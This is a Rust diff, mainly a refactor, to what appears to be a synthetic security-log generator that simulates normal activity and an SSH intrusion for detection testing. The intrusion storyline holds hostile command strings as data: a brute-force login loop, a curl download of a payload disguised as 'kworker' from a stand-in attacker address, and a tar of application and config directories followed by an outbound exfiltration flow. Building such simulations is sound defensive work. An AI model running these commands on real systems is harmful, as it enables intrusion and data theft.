@@ -89,7 +89,11 @@ impl Telling {
     fn day_to_day(&mut self, begin: u64) {
         let user = *self.random.pick(&PEOPLE);
         let host = *self.random.pick(&HOSTS);
-        let address = format!("10.1.{}.{}", self.random.between(0, 3), self.random.between(2, 250));
+        let address = format!(
+            "10.1.{}.{}",
+            self.random.between(0, 3),
+            self.random.between(2, 250)
+        );
         let contact = self.contact();
         let mut login = Login {
             step: &contact,
@@ -111,7 +115,7 @@ impl Telling {
         }
         self.plan(at, login.report());
         let opened = self.open_session(&contact, host, user, at + 50);
-        let shell = self.process_below(&opened, "/bin/bash", host, user, at + 90);
+        let shell = self.shell(&opened, (host, user), at + 90);
         at += 90;
         for _ in 0..self.random.between(3, 9) {
             at += self.random.between(SECOND, 40 * SECOND);
@@ -129,7 +133,7 @@ impl Telling {
             if self.random.chance(45) {
                 let address = *self.random.pick(&INSIDE);
                 let (bytes_out, port) = (self.random.between(300, 90_000), 443);
-                self.flow(&step, host, (address, port), bytes_out, at + 700);
+                self.flow((&step, host), (address, port), bytes_out, at + 700);
             }
         }
         let end = at + self.random.between(5 * SECOND, 60 * SECOND);
@@ -152,7 +156,7 @@ impl Telling {
             let jitter = self.random.between(0, 900);
             self.plan(at + jitter, process.report());
             if host == "db-1" && (at / MINUTE).is_multiple_of(15) {
-                self.flow(&step, host, (BACKUP, 22), 80_000_000, at + 20 * SECOND);
+                self.flow((&step, host), (BACKUP, 22), 80_000_000, at + 20 * SECOND);
             }
         }
     }
@@ -188,7 +192,7 @@ impl Telling {
         };
         let mut at = begin;
         for _ in 0..48 {
-            login.user = self.random.pick(&GUESSED);
+            login.user = *self.random.pick(&GUESSED);
             self.plan(at, login.report());
             at += self.random.between(2 * SECOND, 5 * SECOND);
         }
@@ -196,21 +200,29 @@ impl Telling {
         login.outcome = "success";
         self.plan(at, login.report());
         let opened = self.open_session(&contact, VICTIM, user, at + 60);
-        let shell = self.process_below(&opened, "/bin/bash", VICTIM, user, at + 110);
+        let shell = self.shell(&opened, (VICTIM, user), at + 110);
 
         let step = self.process_step(&shell);
         let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
-        self.run(&step, ("/usr/bin/curl", download, "/bin/bash"), at + 40 * SECOND);
-        self.flow(&step, VICTIM, (ATTACKER, 80), 420, at + 41 * SECOND);
+        self.run(
+            &step,
+            ("/usr/bin/curl", download, "/bin/bash"),
+            at + 40 * SECOND,
+        );
+        self.flow((&step, VICTIM), (ATTACKER, 80), 420, at + 41 * SECOND);
 
         let worker = self.process_step(&shell);
         let image = "/tmp/.x/kworker";
-        self.run(&worker, (image, "/tmp/.x/kworker -q", "/bin/bash"), at + 75 * SECOND);
+        self.run(
+            &worker,
+            (image, "/tmp/.x/kworker -q", "/bin/bash"),
+            at + 75 * SECOND,
+        );
 
         let step = self.process_step(&worker);
         let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
         self.run(&step, ("/bin/tar", pack, image), at + 3 * MINUTE);
-        self.flow(&worker, VICTIM, (DROP, 443), 48_731_204, at + 6 * MINUTE);
+        self.flow((&worker, VICTIM), (DROP, 443), 48_731_204, at + 6 * MINUTE);
         self.plan(at + 8 * MINUTE, session(&opened, VICTIM, user, false));
         contact.id
     }
@@ -235,13 +247,14 @@ impl Telling {
         step
     }
 
-    fn process_below(&mut self, parent: &Step, image: &str, host: &str, user: &str, at: u64) -> Step {
-        let step = self.process_step(parent);
+    /// The shell of a session.
+    fn shell(&mut self, opened: &Step, (host, user): (&str, &str), at: u64) -> Step {
+        let step = self.process_step(opened);
         let process = Process {
             step: &step,
             host,
             user,
-            image,
+            image: "/bin/bash",
             command: "-bash",
             parent_image: "/usr/sbin/sshd",
         };
@@ -249,7 +262,8 @@ impl Telling {
         step
     }
 
-    fn flow(&mut self, process: &Step, host: &str, to: (&str, u16), bytes_out: u64, at: u64) {
+    /// A connection that a process on a host opened, to an address and port.
+    fn flow(&mut self, (process, host): (&Step, &str), to: (&str, u16), bytes_out: u64, at: u64) {
         self.flows += 1;
         let step = process.below(format!("flow-{}", self.flows), "network");
         let flow = Flow {
@@ -275,5 +289,25 @@ impl Telling {
 
     fn plan(&mut self, at: u64, event: Value) {
         self.planned.push(Planned { at, event });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_story_is_an_hour_of_thousands_of_events_in_order_and_its_seed_decides_it() {
+        let told = story(7);
+        assert!(told.events.len() > 2_000, "{}", told.events.len());
+        assert!(told.events.is_sorted_by_key(|(time, _)| *time));
+        let (first, last) = (
+            told.events.first().unwrap().0,
+            told.events.last().unwrap().0,
+        );
+        let minutes = last.since(first).as_nanos() / 60_000_000_000;
+        assert!((59..75).contains(&minutes), "{minutes} minutes");
+        assert_eq!(told.events, story(7).events);
+        assert_ne!(told.events, story(8).events);
     }
 }
